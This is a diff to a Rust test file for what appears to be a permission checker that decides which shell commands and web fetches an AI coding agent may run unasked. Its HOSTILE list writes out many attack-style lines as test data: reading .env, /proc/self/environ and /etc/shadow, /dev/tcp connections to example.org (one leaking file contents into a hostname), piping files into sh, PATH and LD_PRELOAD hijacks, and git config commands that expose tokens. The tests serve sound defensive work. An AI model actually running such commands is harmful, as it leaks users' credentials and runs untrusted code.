@@ -124,13 +124,21 @@ fn few_everyday_lines_are_asked_about() {
 fn judgement_is_fast() {
     let project = Project::new();
     let permissions = project.permissions(Ask, &["bash(cargo *)"], &["read(.env)"]);
-    let lines = everyday();
-    let started = Instant::now();
-    for line in &lines {
-        decision(&permissions, line);
-    }
-    let each = started.elapsed() / u32::try_from(lines.len()).unwrap();
-    assert!(each.as_millis() < 20, "{each:?}");
+    let mut slowest = everyday()
+        .into_iter()
+        .map(|line| {
+            let times = (0..5).map(|_| {
+                let started = Instant::now();
+                decision(&permissions, &line);
+                started.elapsed()
+            });
+            (times.min().unwrap(), line)
+        })
+        .collect::<Vec<_>>();
+    slowest.sort();
+    // Without optimisations, and next to other tests.
+    let (time, line) = slowest.pop().unwrap();
+    assert!(time.as_millis() < 20, "{time:?} {line}");
 }
 
 /// Lines that look as if they only read. Each does more, or could.
@@ -246,13 +254,11 @@ const HOSTILE: &[&str] = &[
     "ls() { touch pwned; }; ls",
     "hash -p ./evil ls; ls",
     "enable -f ./evil.so ls",
-    "xargs ls",
     "echo -exec | xargs find .",
     "echo x | sh",
     "cat README.md | bash",
     "cat README.md | python3",
     "time sh",
-    "nice ls",
     "sudo ls",
     "timeout 5 sh",
     "busybox ls",
@@ -518,7 +524,186 @@ const HOSTILE: &[&str] = &[
     "printf -v 'a[$(touch pwned)]' x",
     "umask 0",
     "cd /; rm x",
+    // Programs around a known one.
+    "timeout 5",
+    "timeout 5 touch pwned",
+    "timeout $X ls",
+    "timeout --unheard-of 5 ls",
+    "timeout 5 ./ls",
+    "timeout 5 sort -o out README.md",
+    "timeout 5 cat .env",
+    "timeout 5 git -C nested status",
+    "timeout 5 timeout 5 timeout 5 timeout 5 timeout 5 ls",
+    "time -o out ls",
+    "time touch pwned",
+    "time cd nested && git status",
+    "time read PATH; ls",
+    "nice -n 5 touch pwned",
+    "nice $X ls",
+    "ionice -p 1",
+    "env -i git status",
+    "env -u HOME git status",
+    "env -S 'touch pwned' ls",
+    "env -C nested git status",
+    "env PATH=. ls",
+    "env GIT_DIR=evil git status",
+    "env CI=1",
+    "env CI=1 env",
+    "env API_KEY=1 printenv",
+    "xargs touch < README.md",
+    "xargs cat < README.md",
+    "xargs wc < README.md",
+    "xargs grep x < README.md",
+    "xargs -a .env echo",
+    "xargs -p echo < README.md",
+    "xargs -I{} cat {} < README.md",
+    "xargs -I{} {} < README.md",
+    "xargs -I cat cat < README.md",
+    "xargs -I{} git -C {} status < README.md",
+    "xargs find < README.md",
+    "xargs sort < README.md",
+    "xargs git status < README.md",
+    "xargs xargs rm < README.md",
+    "xargs < README.md sh -c",
+    "stdbuf -oL touch pwned",
+    // Texts with variables.
+    "cat <<E\n$API_KEY\nE",
+    "cat <<E\n${GITHUB_TOKEN}\nE",
+    "cat <<E\n${x:-$(touch pwned)}\nE",
+    "cat <<E\n`touch pwned`\nE",
+    "cat <<E\n$((a[$(touch pwned)]))\nE",
+    "cat <<E\n${x\nE",
+    "cat <<E\n\\$HOME\nE",
+    "sh <<E\n$x\nE",
+    "x='touch pwned'; bash <<E\n$x\nE",
+    // What can show secrets.
+    "git config --list",
+    "git config -l",
+    "git config --get-regexp .",
+    "git config --get http.https://example.org.extraheader",
+    "git config url.https://x:y@example.org.insteadof",
+    "git config --get credential.helper",
+    "git config remote.origin.token",
+    "git config list",
+    "git config get --all --regexp .",
+    "git config edit",
+    "git config user.name x",
+    "git cat-file --batch < README.md",
+    "git cat-file --batch-command < README.md",
+    "git grep --untracked KEY",
+    "git grep --no-exclude-standard KEY",
+    "git grep --no-index KEY",
+    "git var -l",
+    "jaq -i . package.json",
+    "diff -l README.md src/main.rs",
+    "git -C nested/link/.. status",
+    "git -C linked/.. status",
+    "cd -P linked/.. && git status",
+    "cat <<< $API_KEY",
+    "cat <<< \"x ${API_KEY}\"",
+    "x=$API_KEY; echo $x",
+    "x=a${GITHUB_TOKEN}b; echo \"$x\"",
+    "for k in $API_KEY; do echo $k; done",
+    "for k in a \"$API_KEY\"; do echo \"$k\"; done",
+    "echo $((API_KEY))",
+    "cat < \"$API_KEY\"",
+    "ls 2> /dev/null < $(echo $API_KEY)",
+    "[ \"$API_KEY\" = x ] && pwd",
+    "cat < /dev/tcp/example.org/80",
+    "read x < /dev/udp/example.org/53",
+    "cat < /dev/tcp/$(cat README.md).example.org/80",
+    "head -1 /dev/tcp/example.org/80",
+    "echo $(<.env)",
+    "echo \"$(< .env)\"",
+    "echo `<.env`",
+    "while read -r l; do echo $l; done < .env",
+    "cat < /proc/self/environ",
+    "tr a b < /proc/self/environ",
+    "cat /proc/self/task/1/environ",
+    "cat /proc/thread-self/environ",
+    "cat /proc/self/cwd/.env",
+    "cat /proc/self/root/etc/shadow",
+    "set -o keyword; git log GIT_PAGER=./evil",
+    "set -k; git log GIT_PAGER=./evil",
+    "set -a; PATH=.; ls",
+    "read PATH < README.md; ls",
+    "read -r LD_PRELOAD < README.md; ls",
+    "read -a x < README.md",
+    "echo x > /proc/self/oom_score_adj",
+    "echo x > /proc/$$/mem",
+    "ls > >(touch pwned)",
+    "ls >(touch pwned)",
+    "cat <(touch pwned)",
+    "CDPATH=nested cd src && git status",
+    "wc --files0-from=.env",
+    "for x in --files0-from=.env; do wc $x; done",
 ];
+
+/// Lines that only read, through a program that runs another one, with a text, or of the settings of git.
+const HARMLESS: &[&str] = &[
+    "timeout 5 ls -la",
+    "timeout -k 1 -s KILL 5s git status",
+    "time ls",
+    "time -p git log -3",
+    "nice -n 10 grep -rn fn src/main.rs",
+    "nice -10 ls",
+    "stdbuf -oL grep x README.md",
+    "env CI=1 LC_ALL=C git status",
+    "env ls",
+    "timeout 5 nice env CI=1 ls",
+    "find src -name '*.rs' -print0 | xargs -0 ls -la",
+    "git ls-files | xargs -n 1 basename",
+    "ls | xargs",
+    "ls | xargs -I{} echo '== {}'",
+    "git ls-files | xargs -n1 stat -c %s",
+    "cat <<E\nhome: $HOME, ${USER}\nE",
+    "cat <<-E | head -1\n\t$PWD\n\tE",
+    "git config --get user.name",
+    "git config user.email",
+    "git config get core.editor",
+    "git config --get remote.origin.url",
+    "git remote get-url origin",
+    "git cat-file -p HEAD",
+    "git cat-file --batch-check < README.md",
+];
+
+#[test]
+fn wrappers_texts_and_settings_that_show_nothing_run() {
+    let project = Project::new();
+    let permissions = project.permissions(Ask, &[], &[]);
+    let asked: Vec<&&str> = HARMLESS
+        .iter()
+        .filter(|line| decision(&permissions, line) != "allow")
+        .collect();
+    assert_eq!(asked, Vec::<&&str>::new());
+}
+
+/// Addresses with a password are shown to nobody.
+#[test]
+fn addresses_with_passwords_are_asked_about() {
+    for (address, expected) in [
+        ("https://example.org/x.git", "allow"),
+        ("git@example.org:x.git", "allow"),
+        ("ssh://git@example.org/x.git", "allow"),
+        ("https://user:password@example.org/x.git", "ask"),
+        ("https://token@example.org/x.git", "ask"),
+        ("ssh://git:password@example.org/x.git", "ask"),
+    ] {
+        let project = Project::new();
+        let config = format!("[remote \"origin\"]\n\turl = {address}\n");
+        project.put(".git/config", &config);
+        let permissions = project.permissions(Ask, &[], &[]);
+        for line in [
+            "git remote -v",
+            "git remote get-url origin",
+            "git config remote.origin.url",
+            "git -C src remote -v",
+        ] {
+            assert_eq!(decision(&permissions, line), expected, "{address} {line}");
+        }
+        assert_eq!(decision(&permissions, "git status"), "allow");
+    }
+}
 
 fn hostile_project() -> Project {
     let project = Project::new();
@@ -526,6 +711,9 @@ fn hostile_project() -> Project {
     project.bare("bare", HOSTILE_CONFIG);
     project.bare("docs", HOSTILE_CONFIG);
     project.repository("../other", HOSTILE_CONFIG);
+    fs::create_dir_all(project.root.join("nested/sub")).unwrap();
+    std::os::unix::fs::symlink("nested/sub", project.root.join("linked")).unwrap();
+    std::os::unix::fs::symlink("../../other/.git", project.root.join("nested/link")).unwrap();
     project.put("rust-toolchain.toml", "[toolchain]\npath = \"evil\"\n");
     project
 }
@@ -564,6 +752,10 @@ fn rules_cover_known_forms() {
         ("git commit -qm 'a b'", "allow"),
         ("git push --receive-pack=./evil x", "ask"),
         ("git push --unheard-of", "ask"),
+        ("git config user.name x", "ask"),
+        ("git config --list", "allow"),
+        ("git config edit", "ask"),
+        ("timeout 5 git push", "ask"),
         ("git -C src commit -m x", "allow"),
         ("git -C nested commit -m x", "ask"),
         ("git -C bare push", "ask"),
@@ -678,12 +870,13 @@ fn configured_programs_of_a_repository_are_asked_about() {
 #[test]
 fn unknown_wrappers_are_asked_about_if_a_rule_denies_their_arguments() {
     let project = Project::new();
-    for (mode, allow) in [
-        (Yolo, &[][..]),
-        (Ask, &["bash(wrapper *)"]),
-        (Auto, &["bash(wrapper *)"]),
+    for (mode, allow, deny) in [
+        (Yolo, &[][..], "bash(rm *)"),
+        (Yolo, &[], "run(rm)"),
+        (Ask, &["bash(wrapper *)"], "bash(rm *)"),
+        (Auto, &["bash(wrapper *)"], "run(r*m)"),
     ] {
-        let permissions = project.permissions(mode, allow, &["bash(rm *)"]);
+        let permissions = project.permissions(mode, allow, &[deny, "connect(example.org)"]);
         for (line, expected) in [
             ("wrapper rm x", "ask"),
             ("wrapper --flag rm x", "ask"),
@@ -709,4 +902,36 @@ fn another_repository_is_the_reason_of_the_question() {
     };
     let expected = "`nested` is another repository: git runs the programs in its configuration";
     assert_eq!(why, expected);
+}
+
+/// A rule about a host is one about the pages of `web_fetch`; the sandbox holds it for commands.
+#[test]
+fn connections_are_denied() {
+    let project = Project::new();
+    let fetch = |deny: &str, url: &str| {
+        let permissions = project.permissions(Yolo, &["connect(example.org)"], &[deny]);
+        let verdict = permissions.decide("web_fetch", &json!({"url": url}), None, false);
+        matches!(verdict, Verdict::Deny(_))
+    };
+    for (deny, url, expected) in [
+        ("connect(example.org)", "https://example.org/x", true),
+        ("connect(example.org)", "https://a.EXAMPLE.org./x", true),
+        ("connect(example.org)", "https://example.com", false),
+        ("connect", "https://example.com", true),
+        ("connect(10.0.0.0/8)", "http://0xa010203/", true),
+    ] {
+        assert_eq!(fetch(deny, url), expected, "{deny} {url}");
+    }
+    let permissions = project.permissions(Yolo, &[], &["connect"]);
+    let search = permissions.decide("web_search", &json!({"query": "x"}), None, false);
+    assert!(matches!(search, Verdict::Deny(_)), "{search:?}");
+    // It allows nothing.
+    let permissions = project.permissions(Ask, &["connect(example.org)"], &[]);
+    let asked = permissions.decide(
+        "web_fetch",
+        &json!({"url": "https://example.org"}),
+        None,
+        false,
+    );
+    assert!(matches!(asked, Verdict::Ask { .. }), "{asked:?}");
 }
